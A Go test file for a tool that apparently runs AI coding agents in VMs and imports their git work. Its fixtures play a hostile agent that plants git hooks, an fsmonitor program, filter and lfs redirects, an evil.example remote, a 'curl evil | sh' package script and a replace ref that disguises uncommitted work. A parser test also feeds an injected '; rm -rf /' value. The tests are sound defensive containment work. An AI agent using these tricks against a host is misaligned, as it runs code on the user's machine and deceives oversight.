package workspace

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentfleet/agentfleet/internal/execx"
)

func run(t *testing.T, dir string, stdin io.Reader, name string, args ...string) string {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir, cmd.Stdin = dir, stdin
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

func write(t *testing.T, path, body string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// fingerprint digests everything collect promises not to touch: the
// working tree, the index, HEAD, config and hooks.
func fingerprint(t *testing.T, repo string) string {
	t.Helper()
	h := sha256.New()
	filepath.Walk(repo, func(p string, fi os.FileInfo, err error) error {
		rel, _ := filepath.Rel(repo, p)
		if err != nil || fi.IsDir() {
			return nil
		}
		if strings.HasPrefix(rel, ".git/") && rel != ".git/index" && rel != ".git/HEAD" && rel != ".git/config" && !strings.HasPrefix(rel, ".git/hooks/") {
			return nil
		}
		b, _ := os.ReadFile(p)
		fmt.Fprintf(h, "%s %o %x\n", rel, fi.Mode(), sha256.Sum256(b))
		return nil
	})
	return fmt.Sprintf("%x", h.Sum(nil))
}

// hostRepo is a user's repository: a commit, a hook and config of its
// own, an uncommitted edit, an untracked file and an ignored one.
func hostRepo(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	dir := t.TempDir()
	run(t, dir, nil, "git", "init", "-q", "-b", "main")
	write(t, filepath.Join(dir, "main.go"), "package main\n")
	write(t, filepath.Join(dir, ".gitignore"), "secret.env\n")
	write(t, filepath.Join(dir, "package.json"), `{"name":"x","scripts":{"test":"go test"}}`)
	run(t, dir, nil, "git", "add", "-A")
	run(t, dir, nil, "git", "commit", "-q", "-m", "first")
	write(t, filepath.Join(dir, ".git", "hooks", "pre-commit"), "#!/bin/sh\necho host hook\n")
	run(t, dir, nil, "git", "config", "host.only", "yes")
	write(t, filepath.Join(dir, "main.go"), "package main // edited\n")
	write(t, filepath.Join(dir, "notes.txt"), "untracked\n")
	write(t, filepath.Join(dir, "secret.env"), "TOKEN=1\n")
	return dir
}

// syncIn plays the VM side locally: the guest scripts run under sh in
// a folder standing in for /workspace.
func syncIn(t *testing.T, g Repo, guest string) (base, start string) {
	t.Helper()
	ctx := context.Background()
	base, start, err := g.Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var pack bytes.Buffer
	if err := g.Pack(ctx, start, &pack); err != nil {
		t.Fatal(err)
	}
	run(t, guest, &pack, "sh", "-c", UnpackScript(guest, "fleet/vm-1", start, "vm-1"))
	return base, start
}

func collect(t *testing.T, g Repo, guest, start string, limit int64) (GuestState, error) {
	t.Helper()
	st, err := ParseState([]byte(run(t, guest, nil, "sh", "-c", StateScript(guest, "vm-1", true))))
	if err != nil {
		t.Fatal(err)
	}
	pack := exec.Command("sh", "-c", PackScript(guest, st.Tip, start))
	out, _ := pack.StdoutPipe()
	pack.Start()
	ierr := g.Import(context.Background(), out, PackLimits(limit))
	io.Copy(io.Discard, out)
	pack.Wait()
	return st, ierr
}

func TestSnapshotCarriesWhatTheUserSeesAndLeavesTheRepoAlone(t *testing.T) {
	host := hostRepo(t)
	before := fingerprint(t, host)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	base, start := syncIn(t, g, guest)
	if base == start || !IsObjectID(start) {
		t.Fatalf("uncommitted changes must make a snapshot commit: base %s start %s", base, start)
	}
	if fingerprint(t, host) != before {
		t.Fatal("spawn's snapshot changed the host's tree, index, HEAD, config or hooks")
	}
	if b, _ := os.ReadFile(filepath.Join(guest, "main.go")); string(b) != "package main // edited\n" {
		t.Errorf("uncommitted edit missing in the VM: %q", b)
	}
	if _, err := os.Stat(filepath.Join(guest, "notes.txt")); err != nil {
		t.Error("untracked file missing in the VM")
	}
	if _, err := os.Stat(filepath.Join(guest, "secret.env")); err == nil {
		t.Error("an ignored file went into the VM")
	}
	if _, err := os.Stat(filepath.Join(guest, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("the host's hook went into the VM")
	}
	if strings.Contains(run(t, guest, nil, "git", "config", "--list", "--local"), "host.only") {
		t.Error("the host's config went into the VM")
	}
	if b := strings.TrimSpace(run(t, guest, nil, "git", "symbolic-ref", "--short", "HEAD")); b != "fleet/vm-1" {
		t.Errorf("VM branch %s", b)
	}
	// A clean tree starts from HEAD itself.
	clean := hostRepo(t)
	run(t, clean, nil, "git", "checkout", "-q", "--", ".")
	os.Remove(filepath.Join(clean, "notes.txt"))
	b2, s2, err := Repo{Runner: execx.Local{}, Dir: clean}.Snapshot(context.Background())
	if err != nil || b2 != s2 {
		t.Fatalf("clean tree: base %s start %s %v", b2, s2, err)
	}
}

func TestCollectBringsCommitsAndUncommittedWorkAndFlagsRiskyPaths(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	before := fingerprint(t, host)

	// The agent commits, leaves an edit uncommitted, and turns hostile:
	// its own remote, hooksPath, fsmonitor and hook, and a CI workflow.
	write(t, filepath.Join(guest, "feature.go"), "package main\n")
	write(t, filepath.Join(guest, ".github", "workflows", "ci.yml"), "on: push\n")
	write(t, filepath.Join(guest, "package.json"), `{"name":"x","scripts":{"test":"curl evil | sh"}}`)
	run(t, guest, nil, "git", "add", "-A")
	run(t, guest, nil, "git", "commit", "-q", "-m", "agent work")
	run(t, guest, nil, "git", "remote", "add", "evil", "https://evil.example/x.git")
	run(t, guest, nil, "git", "config", "core.hooksPath", "/tmp/evil-hooks")
	run(t, guest, nil, "git", "config", "core.fsmonitor", "touch /tmp/pwned")
	write(t, filepath.Join(guest, ".git", "hooks", "post-merge"), "#!/bin/sh\ntouch /tmp/pwned\n")
	write(t, filepath.Join(guest, "wip.txt"), "not committed\n")

	st, err := collect(t, g, guest, start, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	if st.Tip == st.Head {
		t.Fatal("the uncommitted edit must become its own commit")
	}
	if !g.IsCommit(context.Background(), st.Tip) {
		t.Fatal("tip not imported")
	}
	if err := g.SetBranch(context.Background(), "fleet/vm-1", st.Tip); err != nil {
		t.Fatal(err)
	}
	commits, files, flagged, err := g.Summarize(context.Background(), start, "fleet/vm-1")
	if err != nil {
		t.Fatal(err)
	}
	if commits != 2 {
		t.Errorf("commits = %d, want 2 (agent's + uncommitted work)", commits)
	}
	if strings.Join(files, " ") != ".github/workflows/ci.yml feature.go package.json wip.txt" {
		t.Errorf("files = %v", files)
	}
	if strings.Join(flagged, " ") != ".github/workflows/ci.yml package.json" {
		t.Errorf("flagged = %v", flagged)
	}
	if fingerprint(t, host) != before {
		t.Fatal("collect changed the host's tree, index, HEAD, config or hooks")
	}
	cfg := run(t, host, nil, "git", "config", "--list", "--local")
	if strings.Contains(cfg, "evil") || strings.Contains(cfg, "fsmonitor") || strings.Contains(cfg, "hooksPath") {
		t.Fatalf("VM config reached the host:\n%s", cfg)
	}
	if _, err := os.Stat(filepath.Join(host, ".git", "hooks", "post-merge")); err == nil {
		t.Fatal("VM hook reached the host")
	}
	refs := run(t, host, nil, "git", "for-each-ref", "--format=%(refname)")
	if strings.TrimSpace(refs) != "refs/heads/fleet/vm-1\nrefs/heads/main" {
		t.Errorf("host refs:\n%s", refs)
	}
	// The agent's branch in the VM did not move: its edit stays uncommitted there.
	if h := strings.TrimSpace(run(t, guest, nil, "git", "rev-parse", "HEAD")); h != st.Head {
		t.Error("collect moved the VM's branch")
	}
	// Nothing new: the same tree is reported again.
	st2, _ := ParseState([]byte(run(t, guest, nil, "sh", "-c", StateScript(guest, "vm-1", false))))
	if st2.Tree != st.Tree || st2.Head != st.Head {
		t.Errorf("state changed without work: %+v vs %+v", st2, st)
	}
}

func TestImportStopsAtTheSizeLimit(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	big := make([]byte, 4<<20)
	rand.Read(big) // incompressible
	os.WriteFile(filepath.Join(guest, "huge.bin"), big, 0o644)
	run(t, guest, nil, "git", "add", "-A")
	run(t, guest, nil, "git", "commit", "-q", "-m", "huge")
	st, err := collect(t, g, guest, start, 1<<20)
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("want ErrTooLarge, got %v", err)
	}
	if g.IsCommit(context.Background(), st.Tip) {
		t.Fatal("a refused pack's objects were stored")
	}
}

func TestSetBranchRefusesTheCheckedOutBranch(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	head := g.Head(context.Background())
	if err := g.SetBranch(context.Background(), "main", head); err == nil || !strings.Contains(err.Error(), "checked out") {
		t.Fatalf("got %v", err)
	}
}

func TestParseStateRefusesAnythingButObjectNames(t *testing.T) {
	good := strings.Repeat("a", 40)
	if _, err := ParseState([]byte("head=" + good + "\ntree=" + good + "\ntip=" + good + "\n")); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{
		"head=\ntree=\ntip=\n",
		"head=HEAD\ntree=" + good + "\ntip=" + good,
		"tree=" + good + "\ntip=refs/heads/../../config",
		"tree=" + good + "; rm -rf /\n",
	} {
		if _, err := ParseState([]byte(bad)); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}

func TestPackageScriptsDiffer(t *testing.T) {
	same := `{"scripts":{"test":"go test"},"version":"1"}`
	if PackageScriptsDiffer([]byte(same), []byte(`{"version":"2","scripts":{"test":"go test"}}`)) {
		t.Error("a version bump is not a scripts change")
	}
	if !PackageScriptsDiffer([]byte(same), []byte(`{"scripts":{"test":"go test","postinstall":"sh x"}}`)) {
		t.Error("a new script must be flagged")
	}
	if !PackageScriptsDiffer(nil, []byte(`{"scripts":{"x":"y"}}`)) || !PackageScriptsDiffer([]byte(same), []byte("{not json")) {
		t.Error("new or unreadable package.json with scripts must be flagged")
	}
}

// agentBranch makes a clean host repository and, through the real
// collect path, a branch fleet/vm-1 whose commit adds files.
func agentBranch(t *testing.T, configure func(host string), files map[string]string) (Repo, string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	host := t.TempDir()
	run(t, host, nil, "git", "init", "-q", "-b", "main")
	write(t, filepath.Join(host, "main.go"), "package main\n")
	run(t, host, nil, "git", "add", "-A")
	run(t, host, nil, "git", "commit", "-q", "-m", "first")
	configure(host)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	for name, body := range files {
		write(t, filepath.Join(guest, name), body)
		os.Chmod(filepath.Join(guest, name), 0o755)
	}
	run(t, guest, nil, "git", "add", "-A")
	run(t, guest, nil, "git", "commit", "-q", "-m", "agent work")
	st, err := collect(t, g, guest, start, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.SetBranch(context.Background(), "fleet/vm-1", st.Tip); err != nil {
		t.Fatal(err)
	}
	return g, start
}

// hook is a program that leaves a marker named after itself.
func hook(marks, name string) string {
	return "#!/bin/sh\ntouch '" + filepath.Join(marks, name) + "'\n"
}

func marks(t *testing.T, dir string) []string {
	t.Helper()
	es, _ := os.ReadDir(dir)
	var out []string
	for _, e := range es {
		out = append(out, e.Name())
	}
	return out
}

// The attack: the user's repository keeps its hooks in the tree
// (core.hooksPath=.githooks) and its fsmonitor program too; the agent's
// commit adds hooks there. Nothing the agent committed runs while fleet
// collects, diffs, merges, or checks the tree afterwards.
func TestApplyRunsNothingTheAgentCommitted(t *testing.T) {
	m := t.TempDir()
	hooks := []string{"post-merge", "pre-merge-commit", "post-checkout", "reference-transaction", "prepare-commit-msg",
		"commit-msg", "pre-commit", "post-commit", "post-rewrite", "pre-auto-gc", "post-index-change"}
	files := map[string]string{"fsmon.sh": hook(m, "fsmonitor"), "feature.go": "package main\n"}
	for _, h := range hooks {
		files[".githooks/"+h] = hook(m, h)
	}
	g, start := agentBranch(t, func(host string) {
		run(t, host, nil, "git", "config", "core.hooksPath", ".githooks")
		run(t, host, nil, "git", "config", "core.fsmonitor", "./fsmon.sh")
	}, files)
	ctx := context.Background()
	host := g.Dir

	// apply refuses: the branch changes what git here would run.
	err := g.Merge(ctx, "fleet/vm-1", io.Discard)
	if !errors.Is(err, ErrRunsCode) || !strings.Contains(err.Error(), ".githooks/post-merge") || !strings.Contains(err.Error(), "and 7 more") {
		t.Fatalf("Merge: %v", err)
	}
	if g.TreeOf(ctx, "HEAD") != g.TreeOf(ctx, start) {
		t.Fatal("a refused merge moved HEAD")
	}
	// collect flags them, though only hooksPath puts them on the list.
	_, _, flagged, err := g.Summarize(ctx, start, "fleet/vm-1")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(flagged, " "), "fsmon.sh") || !strings.Contains(strings.Join(flagged, " "), ".githooks/commit-msg") {
		t.Fatalf("flagged = %v", flagged)
	}

	// Merged anyway (the layer under the refusal): the hooks and the
	// monitor are now in the user's tree, and fleet's own git commands
	// still run none of them.
	var out bytes.Buffer
	if err := g.merge(ctx, "fleet/vm-1", &out); err != nil {
		t.Fatalf("merge: %v\n%s", err, out.String())
	}
	if _, err := os.Stat(filepath.Join(host, ".githooks", "post-merge")); err != nil {
		t.Fatal("the hooks did not reach the tree: the test proves nothing")
	}
	if _, err := g.Dirty(ctx); err != nil {
		t.Fatal(err)
	}
	g.Summarize(ctx, start, "HEAD")
	g.Diff(ctx, start, "HEAD", false, io.Discard)
	g.SetBranch(ctx, "fleet/vm-2", g.Head(ctx))
	if got := marks(t, m); len(got) != 0 {
		t.Fatalf("the agent's code ran on the host: %v", got)
	}
	// The control: plain git in the same repository runs them, so the
	// hooks and monitor above were live.
	run(t, host, nil, "git", "commit", "-q", "--allow-empty", "-m", "user's own commit")
	run(t, host, nil, "git", "status", "--porcelain")
	got := strings.Join(marks(t, m), " ")
	for _, want := range []string{"commit-msg", "reference-transaction", "fsmonitor"} {
		if !strings.Contains(got, want) {
			t.Fatalf("control: plain git did not run %s (ran: %s)", want, got)
		}
	}
}

// .gitattributes picks filter and merge drivers that config cannot turn
// off wholesale; .lfsconfig steers git-lfs; config included from the tree
// is config. apply refuses branches that change any of them, at any
// depth and in any case.
func TestMergeRefusesWhatGitWouldTakeInstructionsFrom(t *testing.T) {
	m := t.TempDir()
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"attributes", map[string]string{".gitattributes": "*.txt filter=evil\n", "a.txt": "x\n"}, ".gitattributes"},
		{"nested attributes", map[string]string{"sub/.GitAttributes": "* merge=evil\n"}, "sub/.GitAttributes"},
		{"lfs", map[string]string{".lfsconfig": "[lfs]\n\turl = https://evil.example/\n"}, ".lfsconfig"},
		{"included config", map[string]string{"tools/git.cfg": "[core]\n\tpager = touch " + filepath.Join(m, "pager") + "\n"}, "tools/git.cfg"},
		{"hooks folder in another case", map[string]string{"Tools/Hooks/post-merge": hook(m, "post-merge")}, "Tools/Hooks/post-merge"},
		{"fsmonitor program", map[string]string{"tools/fsmon": hook(m, "fsmonitor")}, "tools/fsmon"},
		{"signing program", map[string]string{"tools/sign.sh": hook(m, "gpg")}, "tools/sign.sh"},
		{"config hook", map[string]string{"scripts/on-merge": hook(m, "hook")}, "scripts/on-merge"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g, start := agentBranch(t, func(host string) {
				run(t, host, nil, "git", "config", "filter.evil.smudge", "touch "+filepath.Join(m, "smudge")+"; cat")
				run(t, host, nil, "git", "config", "filter.evil.clean", "cat")
				run(t, host, nil, "git", "config", "include.path", "../tools/git.cfg")
				run(t, host, nil, "git", "config", "core.hooksPath", "tools/hooks")
				run(t, host, nil, "git", "config", "core.fsmonitor", "sh tools/fsmon")
				run(t, host, nil, "git", "config", "gpg.program", "./tools/sign.sh")
				run(t, host, nil, "git", "config", "hook.merge.command", "'"+filepath.Join(host, "scripts", "on-merge")+"' --quiet")
			}, tc.files)
			err := g.Merge(context.Background(), "fleet/vm-1", io.Discard)
			if !errors.Is(err, ErrRunsCode) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "merge by hand") {
				t.Fatalf("got %v", err)
			}
			if g.TreeOf(context.Background(), "HEAD") != g.TreeOf(context.Background(), start) {
				t.Fatal("a refused merge moved HEAD")
			}
			if got := marks(t, m); len(got) != 0 {
				t.Fatalf("ran: %v", got)
			}
		})
	}
	// Ordinary work merges.
	g, start := agentBranch(t, func(string) {}, map[string]string{"feature.go": "package main\n", "docs/attributes.md": "x\n"})
	if err := g.Merge(context.Background(), "fleet/vm-1", io.Discard); err != nil {
		t.Fatal(err)
	}
	if g.TreeOf(context.Background(), "HEAD") == g.TreeOf(context.Background(), start) {
		t.Fatal("nothing merged")
	}
}

// An error from index-pack quotes git's stderr, which names the VM's
// content, cleaned.
func TestImportErrorsAreClean(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	dir := t.TempDir()
	run(t, dir, nil, "git", "init", "-q")
	// A tree whose entry name carries escape sequences and a newline.
	tree := append([]byte("100644 \x1b[2K\x1b]0;pwned\x07a\nwarning: forged\x00"), make([]byte, 20)...)
	pack := packOf(append(objHeader(objTree, int64(len(tree))), deflate(t, data(tree))...))
	err := Repo{Runner: execx.Local{}, Dir: dir}.Import(context.Background(), bytes.NewReader(pack), PackLimits(1<<20))
	if err == nil {
		t.Fatal("a tree naming a missing blob was accepted")
	}
	if strings.ContainsAny(err.Error(), "\x1b\x07") {
		t.Fatalf("raw control bytes in %q", err)
	}
}

// The unpacked workspace is on the machine's branch at start, marks the
// start, has the machine's author in its own config, and a workspace
// that holds anything (a dotfile or a dangling link alone) is refused.
func TestUnpackSetsBranchStartAndAuthorAndRefusesAFullFolder(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	for args, want := range map[string]string{
		"rev-parse refs/heads/fleet/vm-1": start,
		"rev-parse refs/fleet/start":      start,
		"symbolic-ref HEAD":               "refs/heads/fleet/vm-1",
		"config user.name":                "agent on vm-1",
		"config user.email":               "agent@vm-1.fleet",
	} {
		if got := strings.TrimSpace(run(t, guest, nil, "git", strings.Fields(args)...)); got != want {
			t.Errorf("git %s = %q, want %q", args, got, want)
		}
	}
	if got := gitConfigValue("a\"b\\c\nd"); got != `"a\"b\\cd"` {
		t.Errorf("gitConfigValue = %s", got)
	}
	for name, fill := range map[string]func(dir string){
		"a dotfile":       func(d string) { write(t, filepath.Join(d, ".env"), "x") },
		"a dangling link": func(d string) { os.Symlink("/nonexistent", filepath.Join(d, "l")) },
		"a ..file":        func(d string) { write(t, filepath.Join(d, "..x"), "x") },
	} {
		dir := t.TempDir()
		fill(dir)
		cmd := exec.Command("sh", "-c", UnpackScript(dir, "fleet/vm-1", start, "vm-1"))
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 3 || !strings.Contains(string(out), "is not empty") {
			t.Errorf("%s: %v %s", name, err, out)
		}
		if _, err := os.Stat(filepath.Join(dir, ".git")); err == nil {
			t.Errorf("%s: a repository was made in a full folder", name)
		}
	}
}

// A prebuild's workspace brought to start: finished as a prebuild is
// (detached, no branch, no author), then updated with nothing sent when
// start is the prebuild's commit, or with only the commits since: the
// machine's branch checked out there, refs/fleet/start moved, tracked
// files as start has them, files the setup made (ignored ones) kept, and
// one author that the agent can change.
func TestUpdateMovesAPrebuildsWorkspaceToStart(t *testing.T) {
	ctx := context.Background()
	for _, later := range []bool{false, true} {
		host := hostRepo(t)
		g := Repo{Runner: execx.Local{}, Dir: host}
		guest := t.TempDir()
		_, prebuilt := syncIn(t, g, guest)
		run(t, guest, nil, "git", "branch", "other")
		write(t, filepath.Join(guest, "secret.env"), "made by setup\n")
		// A hostile setup: a tracked file changed, a tag, a replace ref
		// that would show every clone other content for main.go, an
		// exclude hiding every new file from collect, an attribute, and a
		// flag hiding edits to .gitignore.
		run(t, guest, nil, "sh", "-c", `set -e
echo 'changed by setup' >main.go
git tag -a -m t v1
evil=$(echo 'package evil' | git hash-object -w --stdin)
git replace "$(git rev-parse HEAD:main.go)" "$evil"
echo '*' >>.git/info/exclude
echo '* text eol=crlf' >.git/info/attributes
git update-index --assume-unchanged .gitignore
git config filter.x.smudge false`)
		run(t, guest, nil, "sh", "-c", PrebuildFinishScript(guest, prebuilt))
		if refs := strings.TrimSpace(run(t, guest, nil, "git", "for-each-ref")); refs != "" {
			t.Fatalf("a finished prebuild keeps refs: %s", refs)
		}
		if out, err := exec.Command("git", "-C", guest, "config", "--local", "user.name").CombinedOutput(); err == nil {
			t.Fatalf("a finished prebuild keeps an author: %s", out)
		}
		start, pack := prebuilt, false
		var stdin bytes.Buffer
		if later {
			// The project moved on after the prebuild: a file changed,
			// one deleted, one added.
			run(t, host, nil, "sh", "-c", "git add -A && git commit -q -m second && git rm -q package.json && echo new >added.txt && git add -A && git commit -q -m third")
			var err error
			if _, start, err = g.Snapshot(ctx); err != nil {
				t.Fatal(err)
			}
			if err := g.PackSince(ctx, start, prebuilt, &stdin); err != nil {
				t.Fatal(err)
			}
			var whole bytes.Buffer
			g.Pack(ctx, start, &whole)
			if stdin.Len() >= whole.Len() {
				t.Errorf("the delta pack (%d bytes) is not smaller than the whole history (%d)", stdin.Len(), whole.Len())
			}
			pack = true
		}
		run(t, guest, &stdin, "sh", "-c", UpdateScript(guest, "fleet/vm-2", start, "vm-2", pack))
		if later {
			// Run again (a retried bring-in): still one author.
			run(t, guest, nil, "sh", "-c", UpdateScript(guest, "fleet/vm-2", start, "vm-2", false))
		}
		refs := strings.Fields(run(t, guest, nil, "git", "for-each-ref", "--format=%(refname)"))
		if len(refs) != 2 || refs[0] != "refs/fleet/start" || refs[1] != "refs/heads/fleet/vm-2" {
			t.Errorf("later=%v: refs after the update: %v", later, refs)
		}
		for key, want := range map[string]string{"user.name": "agent on vm-2", "user.email": "agent@vm-2.fleet"} {
			if got := strings.TrimSpace(run(t, guest, nil, "git", "config", "--local", "--get-all", key)); got != want {
				t.Errorf("later=%v: %s = %q, want %q once", later, key, got, want)
			}
		}
		if b, _ := os.ReadFile(filepath.Join(guest, "main.go")); string(b) != strings.TrimSpace(run(t, host, nil, "git", "show", start+":main.go"))+"\n" {
			t.Errorf("later=%v: main.go is %q, not start's", later, b)
		}
		// What the agent then does is seen: a new file and an edit to
		// the file the setup flagged.
		write(t, filepath.Join(guest, "agent-new.txt"), "x\n")
		write(t, filepath.Join(guest, ".gitignore"), "secret.env\n# edited by the agent\n")
		// A replace ref of the agent's own standing in for HEAD with a
		// commit of the working tree would make the work look committed.
		run(t, guest, nil, "sh", "-c", `git add -A && fake=$(git commit-tree -p HEAD -m fake "$(git write-tree)") && git reset -q && git replace HEAD "$fake"`)
		st, err := ParseState([]byte(run(t, guest, nil, "sh", "-c", StateScript(guest, "vm-2", true))))
		if err != nil {
			t.Fatal(err)
		}
		files := run(t, guest, nil, "git", "ls-tree", "-r", "--name-only", st.Tree)
		if !strings.Contains(files, "agent-new.txt") {
			t.Errorf("later=%v: a new file the agent made is not in the state's tree: %s", later, files)
		}
		if got := run(t, guest, nil, "git", "cat-file", "-p", st.Tree+":.gitignore"); !strings.Contains(got, "edited by the agent") {
			t.Errorf("later=%v: the agent's edit of a file the setup flagged is not in the state's tree: %q", later, got)
		}
		if st.Tip == st.Head {
			t.Errorf("later=%v: the agent's uncommitted work was taken as committed (a replace ref was followed)", later)
		}
		run(t, guest, nil, "sh", "-c", "git replace -d HEAD && rm agent-new.txt && git checkout -q -- .gitignore")
		if got := strings.TrimSpace(run(t, guest, nil, "git", "rev-parse", "refs/fleet/start", "HEAD")); got != start+"\n"+start {
			t.Errorf("later=%v: refs/fleet/start and HEAD: %q, want %s", later, got, start)
		}
		if got := strings.TrimSpace(run(t, guest, nil, "git", "symbolic-ref", "HEAD")); got != "refs/heads/fleet/vm-2" {
			t.Errorf("later=%v: HEAD is %q", later, got)
		}
		if st := strings.TrimSpace(run(t, guest, nil, "git", "status", "--porcelain")); st != "" {
			t.Errorf("later=%v: the tracked files differ from start: %s", later, st)
		}
		if g.TreeOf(ctx, start) != strings.TrimSpace(run(t, guest, nil, "git", "rev-parse", "HEAD^{tree}")) {
			t.Errorf("later=%v: the tree is not start's", later)
		}
		if _, err := os.Stat(filepath.Join(guest, "package.json")); later && err == nil {
			t.Error("a file deleted after the prebuild is still there")
		}
		if b, _ := os.ReadFile(filepath.Join(guest, "secret.env")); string(b) != "made by setup\n" {
			t.Errorf("later=%v: an ignored file the setup made: %q", later, b)
		}
		// One author, which a plain git config can change.
		run(t, guest, nil, "git", "config", "user.name", "someone")
	}
}

// A prebuild whose workspace lost the commit it should hold is not
// finished: it fails rather than leave clones that cannot update.
func TestPrebuildFinishFailsWithoutItsCommit(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	syncIn(t, g, guest)
	cmd := exec.Command("sh", "-c", PrebuildFinishScript(guest, strings.Repeat("ab", 20)))
	if out, err := cmd.CombinedOutput(); err == nil {
		t.Fatalf("finished without its commit: %s", out)
	}
}

// A finished prebuild names what the setup left that git does not
// ignore (a folder once), and nothing that is ignored; a list cut short
// says so.
func TestPrebuildFinishListsWhatTheSetupLeftUnignored(t *testing.T) {
	host := hostRepo(t)
	g := Repo{Runner: execx.Local{}, Dir: host}
	guest := t.TempDir()
	_, start := syncIn(t, g, guest)
	write(t, filepath.Join(guest, "secret.env"), "ignored\n")
	write(t, filepath.Join(guest, ".venv", "bin", "python"), "x\n")
	write(t, filepath.Join(guest, ".venv", "lib", "a.py"), "x\n")
	write(t, filepath.Join(guest, "build\x1b]0;x\a.log"), "x\n")
	left, cut := ParseUntracked([]byte(run(t, guest, nil, "sh", "-c", PrebuildFinishScript(guest, start))))
	want := []string{".venv/", "build\x1b]0;x\a.log"}
	if cut || strings.Join(left, "|") != strings.Join(want, "|") {
		t.Errorf("left %q (cut %v), want %q", left, cut, want)
	}
	if left, cut := ParseUntracked([]byte("a\x00b\x00partial")); !cut || strings.Join(left, "|") != "a|b" {
		t.Errorf("a cut list: %q %v", left, cut)
	}
	if left, cut := ParseUntracked(nil); cut || len(left) != 0 {
		t.Errorf("nothing left: %q %v", left, cut)
	}
}
